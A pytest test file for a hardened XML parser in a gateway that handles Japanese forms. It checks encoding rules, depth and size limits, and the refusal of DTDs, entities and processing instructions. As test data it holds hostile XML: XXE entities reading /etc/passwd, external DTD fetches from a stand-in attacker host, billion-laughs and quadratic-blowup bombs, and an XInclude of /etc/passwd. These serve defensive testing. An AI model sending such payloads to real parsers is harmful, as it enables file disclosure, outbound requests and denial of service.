"""The hardened parser: encodings, DTDs and entities, PIs, limits (security.md §3, cases 33-45)."""

from __future__ import annotations

import threading
import time

import pytest
from lxml import etree

from gateway.errors import XmlError
from gateway.xmlsafe import hardened_parser, parse_xml


def refused(data: bytes) -> str:
    with pytest.raises(XmlError) as info:
        parse_xml(data, what="test.xml")
    assert info.value.status == 400
    return info.value.code


def test_parses_utf8_japanese_with_declaration_bom_and_comments():
    form = '<?xml version="1.0" encoding="UTF-8"?>\n<申請書><氏名>山田　太郎</氏名><!-- メモ --></申請書>'
    root = parse_xml(form.encode(), what="form.xml")
    assert root.tag == "申請書" and root.findtext("氏名") == "山田　太郎"
    assert isinstance(root[-1], etree._Comment)  # comments are kept (remove_comments=False)
    assert parse_xml(b"\xef\xbb\xbf<a>x</a>", what="bom.xml").text == "x"
    assert parse_xml("<a>あ</a>".encode(), what="nodecl.xml").text == "あ"
    assert parse_xml(b"<?xml version='1.0' encoding='utf-8'?><a/>", what="lower.xml").tag == "a"


@pytest.mark.parametrize("data", [
    '<?xml version="1.0" encoding="Shift_JIS"?><a>あ</a>'.encode("cp932"),
    '<?xml version="1.0" encoding="Shift_JIS"?><a>あ</a>'.encode(),  # declaration lies
    b'<?xml version="1.0" encoding="ISO-8859-1"?><a>\xe9</a>',
    '<?xml version="1.0" encoding="UTF-16"?><a>あ</a>'.encode("utf-16"),
    "<a>あ</a>".encode("utf-16"),  # BOM, no declaration (libxml2 would report UTF-8 after decoding)
    "<a/>".encode("utf-32"),
    b"<a>\xff\xfe</a>",  # invalid UTF-8
    b"<a>\xe3\x81</a>",  # truncated sequence
])
def test_only_utf8_is_accepted(data):
    assert refused(data) == "xml-encoding"


@pytest.mark.parametrize("data, code", [
    (b'<!DOCTYPE a [<!ELEMENT a ANY>]><a/>', "xml-dtd-forbidden"),
    (b'<!DOCTYPE a SYSTEM "http://attacker.invalid/a.dtd"><a/>', "xml-dtd-forbidden"),  # case 37
    (b'<!DOCTYPE a [<!ATTLIST a Id CDATA "x">]><a/>', "xml-dtd-forbidden"),  # case 38: default attribute
    (b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>', "xml-entity-forbidden"),
    (b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "xml-entity-forbidden"),  # case 35
    (b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]><a/>', "xml-entity-forbidden"),
    (b'<!DOCTYPE a [<!ENTITY i "\xe6\xa7\x8b">]><a ID="&i;"/>', "xml-entity-forbidden"),  # case 39
    (b"<a>&x;</a>", "xml-entity-forbidden"),  # undeclared entity
    (b'<!DOCTYPE r SYSTEM \'x"><!--\'><r><![CDATA[-->]]></r>', "xml-dtd-forbidden"),  # case 40
])
def test_dtds_and_entities_are_refused_before_parsing(data, code):
    assert refused(data) == code


def test_billion_laughs_and_quadratic_blowup_are_refused_fast():
    levels = b"".join(b'<!ENTITY %c "%s">' % (c, (b"&%c;" % (c - 1)) * 10) for c in range(ord("b"), ord("k")))
    laughs = b'<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">' + levels + b"]><l>&j;</l>"
    quadratic = b'<!DOCTYPE q [<!ENTITY a "' + b"x" * 100_000 + b'">]><q>' + b"&a;" * 10_000 + b"</q>"
    start = time.perf_counter()
    assert refused(laughs) == "xml-entity-forbidden"
    assert refused(quadratic) == "xml-entity-forbidden"
    assert time.perf_counter() - start < 1.0


@pytest.mark.parametrize("data", [
    b"<?foo bar?><a/>",
    b'<a><?xml-stylesheet href="x.xsl"?></a>',
    b'<a/><?xml-stylesheet href="x.xsl"?>',
    b"<a><b><?php echo 1; ?></b></a>",
])
def test_processing_instructions_are_refused(data):
    assert refused(data) == "xml-pi-forbidden"


def test_prolog_stylesheet_pi_is_inert_and_allowed():
    # e-Gov forms carry one for display; nothing in the gateway applies it.
    root = parse_xml(b'<?xml version="1.0" encoding="UTF-8"?>\n<?xml-stylesheet type="text/xsl" href="f.xsl"?><a/>',
                     what="form.xml")
    assert root.tag == "a"


def test_depth_limit():
    assert refused(b"<a>" * 300 + b"</a>" * 300) == "xml-too-deep"
    start = time.perf_counter()
    assert refused(b"<a>" * 100_000 + b"</a>" * 100_000) == "xml-too-deep"  # case 42, no RecursionError
    assert time.perf_counter() - start < 1.0


def test_huge_text_and_attribute_values_are_refused():  # case 43
    assert refused(b"<a>" + b"x" * 10_000_001 + b"</a>") == "xml-too-large"
    assert refused(b'<a b="' + b"x" * 10_000_001 + b'"/>') == "xml-too-large"


@pytest.mark.parametrize("data", [b"", b"   ", b"<a><b></a>", b"<a/><b/>", b"<a/>trailing", b"<a>\x00</a>",
                                  b"<a>&</a>"])
def test_malformed_documents(data):
    assert refused(data) in ("xml-malformed", "xml-encoding")


def test_xinclude_is_never_expanded():  # case 41
    root = parse_xml(b'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" '
                     b'parse="text"/></a>', what="x.xml")
    assert root[0].tag == "{http://www.w3.org/2001/XInclude}include"
    assert "root:" not in etree.tostring(root, encoding="unicode")


def test_str_input_is_a_programming_error():
    with pytest.raises(TypeError):
        parse_xml("<a/>", what="x")  # type: ignore[arg-type]


def test_one_parser_per_thread_and_concurrent_parsing():
    parsers: list[etree.XMLParser] = []
    errors: list[BaseException] = []
    doc = ("<r>" + "<申請者><氏名>山田　太郎</氏名></申請者>" * 200 + "</r>").encode()

    def work() -> None:
        try:
            parsers.append(hardened_parser())
            for _ in range(200):
                assert len(parse_xml(doc, what="t.xml")) == 200
        except BaseException as exc:  # pragma: no cover - reported below
            errors.append(exc)

    threads = [threading.Thread(target=work) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not errors
    assert len({id(p) for p in parsers}) == 4
    assert hardened_parser() is hardened_parser()


@pytest.mark.parametrize("declaration", [
    b'<?xml version="1.0" encoding="UTF-8"?>', b'<?xml version="1.0" encoding="utf-8"?>',
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', b"<?xml version='1.0' encoding='UTF-8'?>",
    b"<?xml version='1.0' encoding='UTF-8x'?>", b"<?xml version='1.0' encoding='UTF-8\"?>",
    b'<?xml version="1.0" encoding="UTF-8x"?>', b'<?xml version="1.0" encoding="UTF-8 "?>',
    b'<?xml version="1.0" encoding="UTF-8\'?>', b'<?xml version="1.0" encoding="UTF-16"?>',
    b'<?xml version="1.0" encoding="utf8"?>', b'<?xml version="1.0"  encoding="Shift_JIS"?>',
    b'<?xml version="1.0"?>', b"",
])
@pytest.mark.parametrize("bom", [b"", b"\xef\xbb\xbf"])
def test_the_usual_declaration_is_judged_as_the_regular_expression_judges_it(declaration, bom):
    # _check_bytes recognises the usual UTF-8 declaration without its regular expression: the
    # verdict on every declaration, the usual ones and their near misses, must stay the regex's.
    from gateway import xmlsafe

    data = bom + declaration + "<a>あ</a>".encode()
    match = xmlsafe._XML_DECL_ENCODING.match(data[len(bom):])
    by_regex = "xml-encoding" if match and match.group(1).lower() not in xmlsafe._UTF8_NAMES else None
    try:
        xmlsafe._check_bytes(data, "t.xml")
        verdict = None
    except XmlError as err:
        verdict = err.code
    assert verdict == by_regex


@pytest.mark.parametrize("data", [
    b'<!DOCTYPE a [<!ELEMENT a ANY>]><a/>', b'<!DOCTYPE a SYSTEM "a.dtd"><a/>', b'<!DOCTYPE a PUBLIC "-//x" "a.dtd"><a/>',
    b'<!DOCTYPE a><a/>', b'<!DOCTYPE a [<!ENTITY x "y">]><a/>', b"<a/>",
])
def test_the_document_check_refuses_a_dtd_the_byte_check_let_through(data):
    # Defence in depth: parsed by a plain parser (as if the byte check had missed it), a DTD is
    # still refused.
    from gateway import xmlsafe

    root = etree.fromstring(data, etree.XMLParser(resolve_entities=False, load_dtd=False, no_network=True))
    if b"<!DOCTYPE" not in data:
        xmlsafe._check_document(root, "t.xml")
        return
    with pytest.raises(XmlError) as info:
        xmlsafe._check_document(root, "t.xml")
    assert info.value.code == ("xml-entity-forbidden" if b"<!ENTITY" in data else "xml-dtd-forbidden")
